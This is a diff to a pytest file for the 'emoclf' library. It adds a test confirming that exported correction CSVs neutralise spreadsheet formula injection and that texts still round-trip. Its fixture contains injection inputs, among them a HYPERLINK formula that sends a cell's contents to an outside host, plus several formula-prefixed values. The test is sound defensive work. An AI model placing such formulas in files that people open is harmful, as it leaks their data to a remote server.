@@ -16,8 +16,8 @@ import pytest
 
 from emoclf import Dataset, audit_dataset
 from emoclf.audit.corrections_file import write_corrections
-from emoclf.audit.wrong_labels import WrongLabels
-from emoclf.datasets.corrections import correct_labels
+from emoclf.audit.wrong_labels import LabelledText, WrongLabels
+from emoclf.datasets.corrections import COLUMNS, correct_labels
 from emoclf.errors import DataError, MissingDependency
 
 WORDS = {
@@ -155,6 +155,47 @@ def test_corrections_of_several_labels(tmp_path: Path) -> None:
     first = [int(one.place.split()[1]) for one in audit.wrong_labels.ranked[:3]]
     labels = [corrected.labels[i] for i in first]
     assert labels == [("joy", "long"), ("anger",), ()]
+
+
+FORMULAS = (
+    '=HYPERLINK("http://example.org/?"&A1,"x")',
+    "+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", "\n=1", "＝1", "'=1", "''=1", "'tis", "'",
+)  # fmt: skip
+
+
+def formulas() -> tuple[Dataset, WrongLabels]:
+    """Return texts and labels that a spreadsheet would run, all of them issues."""
+    labels = ["-1", "+1"] * (len(FORMULAS) // 2)
+    data = Dataset.from_lists(FORMULAS, labels, source="=data.csv")
+    ranked = tuple(
+        LabelledText(
+            data.source, data.place(i), text, (label,), ("+1",), 0.9, 0.1, True
+        )
+        for i, (text, label) in enumerate(zip(FORMULAS, labels, strict=True))
+    )
+    return data, WrongLabels(ranked, accuracy=0.9, multilabel=False)
+
+
+@pytest.mark.parametrize("keeps_apostrophes", [True, False])
+def test_no_cell_is_a_formula_and_every_text_comes_back(
+    tmp_path: Path, keeps_apostrophes: bool
+) -> None:
+    data, ranking = formulas()
+    path = write_corrections(ranking, tmp_path / "review.csv")
+    with open(path, encoding="utf-8-sig", newline="") as stream:
+        rows = list(csv.reader(stream))[1:]
+    assert len(rows) == len(FORMULAS)
+    first = {cell[0] for row in rows for cell in row if cell}
+    assert not first & set("=+-@\t\r\n＝")
+    if not keeps_apostrophes:
+        # As an older emoclf wrote it, or a spreadsheet that takes them for its own.
+        with open(path, "w", encoding="utf-8", newline="") as stream:
+            plain = [[one.source, one.place, one.text, "", "", "", "", ""]
+                     for one in ranking.issues]  # fmt: skip
+            csv.writer(stream).writerows([COLUMNS, *plain])
+    filled(path, lambda row: row["suggested label"] or "+1")
+    (corrected,) = correct_labels([data], path)
+    assert corrected.labels == ("+1",) * len(FORMULAS)
 
 
 def test_corrections_that_do_not_fit(ranking: WrongLabels, tmp_path: Path) -> None:
